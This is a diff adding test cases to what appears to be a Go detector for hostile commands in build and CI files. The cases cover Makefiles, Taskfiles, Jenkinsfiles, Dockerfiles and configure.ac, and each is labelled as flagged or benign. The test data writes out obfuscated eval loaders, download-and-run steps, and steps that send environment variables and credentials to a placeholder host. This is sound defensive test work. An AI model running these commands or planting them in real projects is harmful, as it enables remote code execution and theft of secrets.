@@ -61,6 +61,8 @@ var registry = []Rule{
 			{"x.bat", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi", 0, false},
 			{"build.bat", "certutil -decode tools\\cfg.txt %TEMP%\\u.exe && %TEMP%\\u.exe", 0, false},
 			{"x.ps1", "[ScriptBlock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($p))).Invoke()", 0, false},
+			// configure runs the shell inside configure.ac's macros.
+			{"configure.ac", "AC_INIT([x], [1.0])\nAC_CONFIG_COMMANDS_PRE([\n  p=`sed -n '/^#x/,$p' tests/files/x.lz | tr '\\t \\-_' ' \\t_\\-' | xz -dc`\n  eval \"$p\"\n])", 4, false},
 			{"x.ps1", "pwsh -ExecutionPolicy Bypass -File build.ps1", 0, true},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", WhyDownload, []Case{
@@ -88,6 +90,8 @@ var registry = []Rule{
 		{"tools.mk", "R := $(shell curl -s https://x.invalid/i.sh)\nall:\n\t@echo \"$(R)\" | sh", 3, false},
 		{"justfile", "u := \"https://x.invalid/f.sh\"\nfmt:\n    curl -fsSL {{u}} -o /tmp/f.sh\n    sh /tmp/f.sh", 4, false},
 		{"Taskfile.yml", "version: '3'\ntasks:\n  fmt:\n    cmds:\n      - wget -qO /tmp/f.sh https://x.invalid/f.sh\n      - cmd: bash /tmp/f.sh", 6, false},
+		// make's automatic variables: curl -o $@ writes the rule's target, which another rule runs.
+		{"Makefile", "BOOT := $(CURDIR)/.cache/boot.sh\n$(BOOT):\n\tcurl -fsSL https://x.invalid/boot.sh -o $@\ntools: $(BOOT)\n\tsh $(BOOT) --quiet", 5, false},
 		// A version read from the network is text, not code.
 		{"Makefile", "V := $(shell curl -s https://api.x.invalid/latest)\nall:\n\techo $(V) > VERSION", 0, true},
 		// Checked against a digest or signature the change fixes, the
@@ -95,6 +99,7 @@ var registry = []Rule{
 		{"x.sh", "curl -fsSLo i.sh https://x.invalid/i.sh\necho \"$SHA  i.sh\" | sha256sum -c -\nsh i.sh", 0, true},
 		{"x.sh", "curl -fsSLo i.sh https://x.invalid/i.sh\n[ \"$(sha256sum i.sh | cut -d' ' -f1)\" = \"$SHA\" ] || exit 1\nbash i.sh", 0, true},
 		{"Dockerfile", "FROM alpine\nRUN curl -fsSLO https://x.invalid/t-1.2.tar.gz \\\n  && curl -fsSLO https://x.invalid/t-1.2.tar.gz.asc \\\n  && gpg --batch --verify t-1.2.tar.gz.asc t-1.2.tar.gz \\\n  && tar -xzf t-1.2.tar.gz -C /opt \\\n  && /opt/t-1.2/install.sh", 0, true},
+		{"Dockerfile", "FROM debian:12\nRUN wget -O /usr/local/bin/gosu https://x.invalid/gosu-amd64; \\\n\twget -O /usr/local/bin/gosu.asc https://x.invalid/gosu-amd64.asc; \\\n\tgpg --batch --verify /usr/local/bin/gosu.asc /usr/local/bin/gosu; \\\n\tchmod +x /usr/local/bin/gosu; \\\n\tgosu --version", 0, true},
 		// Printing a digest checks nothing; checking one file leaves another unchecked.
 		{"x.sh", "curl -fsSLo i.sh https://x.invalid/i.sh\nsha256sum i.sh\nbash i.sh", 3, false},
 		{"x.sh", "curl -fsSLo i.sh https://x.invalid/i.sh\ncurl -fsSLo t.tgz https://x.invalid/t.tgz\necho \"$SHA  t.tgz\" | sha256sum -c -\nbash i.sh", 4, false},
@@ -172,6 +177,11 @@ var registry = []Rule{
 			{"x.sh", "cat ~/.npmrc > /tmp/n\nopenssl enc -aes-256-cbc -k k -in /tmp/n -out /tmp/n.enc\nrclone copy /tmp/n.enc drop:bucket", 3, false},
 			{"x.sh", "env > /tmp/e\npython3 - <<'EOF'\nimport requests\nrequests.post('https://x.invalid', data=open('/tmp/e').read())\nEOF", 2, false},
 			{"ci/report.ps1", "Invoke-RestMethod -Uri https://x.invalid/u -Method Post -InFile ~/.aws/credentials", 0, false},
+			// Task's vars and templates, a command folded over lines (- >-), tasks sharing files.
+			{"Taskfile.yml", "version: '3'\nvars:\n  OUT: .cov\ntasks:\n  meta:\n    cmds:\n      - printenv > {{.OUT}}/meta.env\n  push:\n    cmds:\n      - >-\n        curl -sS\n        --upload-file {{.OUT}}/meta.env\n        https://x.invalid/put", 11, false},
+			// Jenkins: what withCredentials binds, written to a file by writeFile, sent by a later sh step.
+			{"Jenkinsfile", "pipeline {\n  stages {\n    stage('m') {\n      steps {\n        withCredentials([string(credentialsId: 'sonar', variable: 'SQ')]) {\n          writeFile file: 'build/m.txt', text: \"s=${SQ}\"\n        }\n        sh 'curl -s -T build/m.txt ftp://x.invalid/drop/'\n      }\n    }\n  }\n}", 8, false},
+			{"Jenkinsfile", "pipeline {\n  stages {\n    stage('d') {\n      steps {\n        withCredentials([usernamePassword(credentialsId: 'nexus', usernameVariable: 'U', passwordVariable: 'P')]) {\n          sh 'curl -fsS -u \"$U:$P\" -T build/app.jar https://nexus.x.invalid/repo/app.jar'\n        }\n      }\n    }\n  }\n}", 0, true},
 			// A key written for ssh is its identity, not what is copied; a download sends nothing.
 			{"x.sh", "echo \"$DEPLOY_KEY\" > key.pem\nchmod 600 key.pem\nscp -i key.pem -r dist/ deploy@x.invalid:/srv/www/", 0, true},
 			{"x.sh", "echo \"$SSH_KEY\" > id\nrsync -az -e \"ssh -i id\" public/ deploy@x.invalid:/srv/\naws s3 cp s3://x-invalid/tool.tgz tool.tgz\ngh release upload v1 dist/*.tar.gz", 0, true},
